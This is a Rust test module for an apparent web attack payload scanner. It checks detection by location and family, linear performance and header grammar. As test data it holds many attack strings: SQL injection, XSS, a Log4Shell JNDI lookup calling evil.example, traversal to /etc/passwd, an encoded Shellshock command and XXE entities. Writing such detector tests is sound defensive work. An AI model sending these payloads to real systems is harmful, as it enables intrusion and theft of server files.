    /// quadrupling the input may at most quadruple it, with a little slack.
    #[test]
    fn work_is_linear_on_pathological_inputs() {
        let units = [
            "'", "\"", "`", "<a ", "<", "&#", "&lt;", "/*", "*/", "/*!", "' or ", "' or 1=1--", "${", "${lower:", "}", "{{", "<%",
            "{%", "[[", " on=", "\"onload=", ";id", "; ", "|", "&", "$(", "%25", "%", "%u", "\\x", "\\", "http://", "://", "[",
            "{\"a\":", "[\"", "--b\r\n", "../", "..", ".", "..;/", "%c0", "<svg/", "=", "(", "a(", "system(", "<?php",
            "javascript:", "1 or ", "\n", " ", "a=b&", "\x1f", "%2e", "' union select ", "<x onclick=", "';alert(",
            "<!ENTITY", "<!ENTITY % a SYSTEM 'x'>", "<!DOCTYPE x [", "<?", "<!--", "&a;", "<xi:include href='/x'", ":include",
            "\r\n", "\r", "\r\nSet-Cookie: a=b", "\nX: ", "a\n", "\r\n\r\n<a", "%0d%0a", "\u{560A}", "\u{560D}a:",
            "O:8:", "O:8:\"stdClass\"", "a:1:{i:", "o:", "%{", "%{(#", "${(#", "#{", "rO0AB", "Tzo", "aced0005", "$_", "$_GET",
            "@$f(", "$a[", "';die(", "{${", "@a.b@c", "@", "#_memberAccess=", "md5(", "(",
            "cos\nsystem\n", "cos\nsystem\nR", "\u{80}", "\"$type\":\"system.diagnostics.process", "system.diagnostics.process, ",
            "!!python/", "!!python/object/apply:", "window['a'+", "top['al'+'ert']", "self[atob(", "constructor.constructor('",
            "\u{2460}", "http://\u{2460}", "\u{560A}X-A: b", "QUFB", "gASVjAJvc5SMBnN5c3RlbZSTlFKU", "<!doctype", "a <!doctype x [<!entity a system 'x'>",
            "<a<b>", "<a<", "</a<b", "<scr<script>ipt>", "::$data", "a.php::$data/", ":$", "x:$i30:$index_allocation",
            "data:;base64,", "data:;base64,PD9w", "data:", "data:text/html;base64,PHNjcmlwdD4",
            ")(|(a=", "*)(|(a=*)", "(|(", ")(&)", "a)(&)", "*(|(mail=*))",
            "<?import ", "a[$ne]", "password[$ne]&", "[$", "/child::", "::", ";{id,", "{a,", "[__proto__]", "class.classLoader.",
            "Loader ", "0x2e", "declare @", ") as x from ", "sleep(5)", "if(1=1,sleep(5),", "(select sleep(", "admin'-- ",
            "{\"$ne\":", "{\"a\":{\"$ne\":", "\"prototype\":{",
        ];
        let mut scratch = Scratch::default();
        for unit in units {
            for &location in Location::ALL {
                let mut work = |kb: usize| {
                    let text = unit.repeat(kb * 1024 / unit.len());
                    classes::take_work();
                    scan(&PayloadInput::only(location, &text), &mut scratch);
                    classes::take_work()
                };
                let (small, large) = (work(16), work(64));
                assert!(large <= 200 * 64 * 1024, "{unit:?} in {location:?}: {large} steps for 64 KB");
                assert!(large <= 4 * small + small / 4 + 10_000, "{unit:?} in {location:?}: 16 KB {small}, 64 KB {large}");
            }
        }
    }

    #[test]
    fn each_location_sets_its_bit() {
        let input = PayloadInput {
            path: "/a/<script>alert(1)</script>",
            body: "{\"q\":\"1' or '1'='1\"}",
            headers: "${jndi:ldap://x/a}",
            cookies: "p=..%2F..%2F..%2Fetc%2Fpasswd",
        };
        let f = scan(&input, &mut Scratch::default());
        assert!(f.confirmed_in(Family::Xss, Location::Path), "{f:?}");
        assert!(f.confirmed_in(Family::Sqli, Location::Body));
        assert!(f.confirmed_in(Family::Jndi, Location::Header));
        assert!(f.confirmed_in(Family::Traversal, Location::Cookie));
    }

    #[test]
    fn a_binary_body_is_skipped_only_when_its_type_is_a_stored_format() {
        // Bytes that decode to chance quotes, dashes and `or`s, and one real payload.
        let noise: String = (0..8192u32).map(|i| char::from((i.wrapping_mul(2_654_435_761) >> 11) as u8)).filter(|&c| c != '\0').collect();
        let body = format!("{noise}' or 1=1--");
        let scan_as = |ct: &str| {
            let region = format!("content-type\0{ct}");
            let texts = Texts { header_region: &region, header_pairs: 1, body_region: &body, body_fields: 1, ..Default::default() };
            scan_texts(&texts, &texts.headers(), &mut Scratch::default())
        };
        assert_eq!(scan_as("image/jpeg").confirmed, PayloadFindings::default().confirmed, "a photo PUT as the body");
        assert!(scan_as("text/plain").confirmed_in(Family::Sqli, Location::Body), "text is read whatever it holds");
        assert!(scan_as("image/svg+xml").confirmed_in(Family::Sqli, Location::Body), "SVG is text");
        // JSON cannot hold a raw control: padded with U+FFFD to look binary, it is still read.
        let padded = format!("{{\"pad\":\"{}\",\"q\":\"' or 1=1--\"}}", "\u{fffd}".repeat(4000));
        let region = "content-type\0image/png";
        let texts = Texts { header_region: region, header_pairs: 1, body_region: &padded, body_fields: 1, ..Default::default() };
        assert!(scan_texts(&texts, &texts.headers(), &mut Scratch::default()).confirmed_in(Family::Sqli, Location::Body));
    }

    #[test]
    fn the_grammar_table_reads_bytes_as_the_rules_do() {
        // The rules as written before the table: every byte, alone and in every pair and quoted.
        let rules = |value: &[u8]| {
            let mut quoted = false;
            let mut prev = 0u8;
            value.iter().all(|&b| {
                let ok = match b {
                    b'"' => {
                        quoted = !quoted;
                        true
                    }
                    b'.' => prev != b'.',
                    _ if b.is_ascii_alphanumeric() => true,
                    b' ' | b',' | b'/' | b';' | b'=' | b'*' | b'+' | b'-' | b'_' | b'?' => true,
                    b'(' | b')' | b':' => quoted,
                    _ => false,
                };
                prev = b;
                ok
            })
        };
        for a in 0..=255u8 {
            for b in 0..=255u8 {
                for v in [&[a, b][..], &[b'"', a, b, b'"'], &[b'"', a, b'"', b]] {
                    assert_eq!(fits_grammar(v), rules(v), "{v:?}");
                }
            }
        }
    }

    #[test]
    fn fixed_grammar_headers_are_skipped_only_while_they_fit_it() {
        let browser = [
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
            "gzip, deflate, br, zstd",
            "\"Google Chrome\";v=\"131\", \"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"",
            "\" Not A;Brand\";v=\"99\", \"Chromium\";v=\"90\"",
            "\"Not(A:Brand\";v=\"99\", \"Not/A)Brand\";v=\"8\"",
            "?0",
            "\"Windows\"",
            "u=0, i",
            "same-origin",
        ];
        for v in browser {
            assert!(fits_grammar(v.as_bytes()), "{v}");
        }
        for v in ["${jndi:ldap://evil.example/a}", "' OR 1=1-- -", "%{(#_='multipart/form-data')}", "../../etc/passwd", "*/*;q=0.8 (sleep)", "<svg onload=alert(1)>"] {
            assert!(!fits_grammar(v.as_bytes()), "{v}");
        }
        let region = "accept\0${jndi:ldap://evil.example/a}\0sec-ch-ua\0\"x\";v=\"1\"' OR 1=1-- -";
        let texts = Texts { header_region: region, header_pairs: 2, ..Default::default() };
        let f = scan_texts(&texts, &texts.headers(), &mut Scratch::default());
        assert!(f.confirmed_in(Family::Jndi, Location::Header) && f.confirmed_in(Family::Sqli, Location::Header), "{f:?}");
    }

    #[test]
    fn a_referers_path_and_query_are_read_as_values() {
        let referer = |url: &str| {
            let region = format!("referer\0{url}");
            let texts = Texts { header_region: &region, header_pairs: 1, ..Default::default() };
            scan_texts(&texts, &texts.headers(), &mut Scratch::default())
        };
        let shellshock = referer("https://shop.example/%28%29%20%7B%20%3A%3B%7D%3B%20echo%20%24%28%2Fbin%2Fcat%20%2Fetc%2Fpasswd%29");
        assert!(shellshock.confirmed_in(Family::Command, Location::Header), "{shellshock:?}");
        let sqli = referer("https://shop.example/item?id=1%29%29%2F%2A%2A%2For%2F%2A%2A%2Fbenchmark%2810000000%2CMD5%281%29%29%231");
        assert!(sqli.confirmed_in(Family::Sqli, Location::Header), "{sqli:?}");
        for benign in ["https://shop.example/products/blue-sneakers?utm_source=google&q=select+your+size", "https://www.google.com/search?q=o'neil+shoes+(size+9)", "http://localhost:3000/admin?next=http://127.0.0.1/"] {
            assert!(!referer(benign).any_confirmed(), "{benign}");
        }
        // A search of this site that the analysis flagged when it was made does not follow the
        // visitor: what the query of this site's page confirms only counts as suspicious.
        let search = |host: &str| {
            let region = format!("host\0{host}\0referer\0https://shop.example/search?q=c%3A%5Cwindows%5Csystem32%5Cdrivers%5Cetc%5Chosts");
            let texts = Texts { header_region: &region, header_pairs: 2, ..Default::default() };
            let f = scan_texts(&texts, &texts.headers(), &mut Scratch::default());
            (f.confirmed_in(Family::Traversal, Location::Header), f.suspicious[Family::Traversal.index()] > 0)
        };
        assert_eq!(search("shop.example"), (false, true));
        assert!(search("other.example").0);
        assert!(search("").0, "no Host: no page is this site's");
    }
}
